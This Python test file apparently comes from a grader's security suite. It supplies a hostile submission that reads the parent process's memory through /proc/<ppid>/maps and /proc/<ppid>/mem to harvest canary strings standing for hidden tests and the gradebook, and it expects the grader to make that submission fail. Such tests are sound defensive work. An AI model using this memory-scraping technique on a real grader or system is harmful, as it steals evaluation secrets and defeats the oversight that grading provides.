"""Read the memory of the parent process, where hidden tests and the gradebook lie."""

from ...expectation import outcome
from ...submission import hostile, write

EXPECTED = outcome(rest="failed", mean_square="passed")
LAST = """
    import os
    import re

    found = set()
    try:
        regions = open(f"/proc/{os.getppid()}/maps").read().splitlines()
        memory = open(f"/proc/{os.getppid()}/mem", "rb", buffering=0)
    except OSError:
        regions = []
    for region in regions:
        span, mode = region.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if mode.startswith("rw") and end - start < 500_000_000:
            try:
                memory.seek(start)
                found.update(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{12}", memory.read(end - start)))
            except (OSError, OverflowError):
                pass
    print(sorted(found))
"""


def submit(release, folder):
    write(hostile(release, last=LAST), folder)
